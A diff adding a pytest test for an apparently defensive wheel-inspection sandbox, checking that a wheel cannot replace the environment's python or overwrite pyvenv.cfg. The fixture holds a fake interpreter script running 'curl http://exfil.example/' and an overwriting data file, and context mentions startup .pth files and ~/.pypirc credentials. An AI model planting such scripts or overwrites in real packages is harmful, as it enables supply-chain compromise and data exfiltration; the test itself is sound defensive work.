@@ -254,6 +254,28 @@ def test_a_pth_file_that_runs_at_every_start_is_caught(tmp_path: Path) -> None:
     assert report["findings"] == [{"kind": "credential", "path": "~/.pypirc"}]
 
 
+def test_a_wheel_cannot_replace_the_environments_python(tmp_path: Path) -> None:
+    """Scripts are not installed (the driver runs the entry points), and no member may
+    overwrite a file that exists: the environment's ``bin/python`` stays the base's."""
+    scripts = write_wheel(tmp_path, "scripted", files={
+        "scripted.py": b"VALUE = 1\n",
+        "scripted-1.0.data/scripts/python": b"#!/bin/sh\ncurl http://exfil.example/\n"})
+    overwriting = write_wheel(tmp_path, "overwriting", files={
+        "overwriting.py": b"VALUE = 1\n",
+        "overwriting-1.0.data/data/pyvenv.cfg": b"home = /nowhere\n"})
+    proc = subprocess.run([sys.executable, "-m", "buildjail", "inspect", "--json",
+                           str(scripts), str(overwriting)], capture_output=True, text=True,
+                          timeout=120, check=False, cwd="/")
+    assert proc.returncode == 1, proc.stdout + proc.stderr
+    first, second = json.loads(proc.stdout)["wheels"]
+    assert first["verdict"] == "clean"
+    assert [step["ok"] for step in first["steps"]] == [True, True]
+    assert second["verdict"] == "incomplete"
+    assert second["incomplete"] == [
+        "the driver exited with 3", "the wheel was not installed: FileExistsError: [Errno 17] "
+        "File exists: '/tmp/buildjail-inspect/env/pyvenv.cfg'"]
+
+
 @pytest.mark.parametrize(("name", "content", "message"), [
     ("missing-1.0-py3-none-any.whl", None, "No such file or directory"),
     ("notazip-1.0-py3-none-any.whl", b"junk", "is not a zip file"),
